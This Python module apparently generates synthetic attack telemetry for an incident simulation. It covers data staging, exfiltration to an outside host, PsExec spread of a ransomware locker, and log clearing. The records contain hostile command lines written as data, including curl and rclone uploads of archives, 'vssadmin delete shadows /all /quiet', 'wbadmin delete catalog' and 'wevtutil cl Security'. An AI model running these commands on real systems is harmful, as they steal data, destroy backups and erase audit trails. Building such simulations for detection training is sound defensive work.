"""What the attacker came for."""

from __future__ import annotations

from hikeshi.demo.actions import CMD, POWERSHELL
from hikeshi.demo.incidents.incident import Incident
from hikeshi.demo.ordinary import upload
from hikeshi.demo.world import PROXY, SECOND

_SYSTEM32 = "C:\\Windows\\System32\\"


def steal_data(inc: Incident) -> None:
    """Packs files on one of his machines and sends them to a place outside."""
    host = next((h for h in inc.held if h in ("FS01", "FS02")), inc.base)
    do, story = inc.do, inc.story
    archive, command, image = inc.rng.choice((
        ("C:\\PerfLogs\\a.7z", "7z.exe a -mx1 C:\\PerfLogs\\a.7z D:\\Shares", "C:\\PerfLogs\\7z.exe"),
        ("C:\\ProgramData\\b.rar", "rar.exe a -hpX -r C:\\ProgramData\\b.rar D:\\Shares", "C:\\ProgramData\\rar.exe"),
        ("C:\\Users\\Public\\c.zip",
         "powershell.exe Compress-Archive -Path D:\\Shares -DestinationPath C:\\Users\\Public\\c.zip", POWERSHELL),
    ))  # fmt: skip
    time = inc.wait(300, 1200)
    records = do.process(host, "SYSTEM", 0x3E7, time, image, command, CMD)
    records += do.file_created(host, "SYSTEM", time + 4 * SECOND, image, archive)
    story.claim("staging", [host, archive], time, records)
    tool, line = inc.rng.choice((
        ("rclone.exe", f"rclone.exe copy {archive} r:x --config r.conf"),
        ("curl.exe", f"curl.exe -T {archive} https://{inc.store}/u"),
        ("WinSCP.com", f"WinSCP.com /command \"open sftp://u@{inc.store}\" \"put {archive}\""),
    ))  # fmt: skip
    time = inc.wait(300, 900)
    records = do.process(host, "SYSTEM", 0x3E7, time, f"C:\\PerfLogs\\{tool}", line, CMD)
    records += do.connection(host, "SYSTEM", time + SECOND, f"C:\\PerfLogs\\{tool}", PROXY, 3128, "proxy.kaede.example")
    records += upload(do, inc.address(host), inc.store, inc.store, time, duration=900,
                      sent=inc.rng.randrange(60, 4000) * 1_000_000)  # fmt: skip
    story.claim("exfiltration", {"source": host, "destination": inc.store}, time, records)
    story.may("c2", inc.store)
    inc.now = time + 900 * SECOND


def encrypt(inc: Incident) -> None:
    """From where he sits to more machines: shadow copies go, the locker runs."""
    do, story, locker = inc.do, inc.story, "C:\\Windows\\Temp\\win.exe"
    targets = [inc.server(), inc.client()]
    for target in targets:
        time = inc.wait(60, 200)
        _, records = do.psexec(inc.base, target, inc.admin, time, tool="C:\\PerfLogs\\PsExec64.exe",
                               options="-accepteula -d -s -c", remote_command=locker + " -all", used_by=inc.account,
                               remote_image=locker)  # fmt: skip
        story.spread(inc.base, target, inc.admin, "psexec_service", time, records)
        inc.held.append(target)
    for host in inc.held:
        if host in ("WEB01", "ESX01"):
            continue
        time = inc.wait(10, 60)
        records = do.process(host, "SYSTEM", 0x3E7, time, _SYSTEM32 + "vssadmin.exe",
                             "vssadmin.exe delete shadows /all /quiet", locker)  # fmt: skip
        records += do.process(host, "SYSTEM", 0x3E7, time + SECOND, _SYSTEM32 + "wbadmin.exe",
                              "wbadmin delete catalog -quiet", locker)  # fmt: skip
        records += do.file_created(host, "SYSTEM", time + 30 * SECOND, locker, "D:\\Shares\\RECOVER-FILES.txt")
        inc.hold(host, time, records)


def clear_logs(inc: Incident) -> None:
    """The Security log of one machine that is not the first is cleared."""
    host = next((h for h in reversed(inc.held) if h not in (inc.held[0], "ESX01", "WEB01")), None)
    if host is None:
        return
    do, time = inc.do, inc.wait(60, 400)
    do.process(host, "SYSTEM", 0x3E7, time - 2 * SECOND, _SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", CMD)
    records = do.log_cleared(host, inc.admin, inc.world.next_logon_id(), time)
    inc.story.claim("log_gaps", [host, "cleared"], time, records)
    inc.hold(host, time, records)
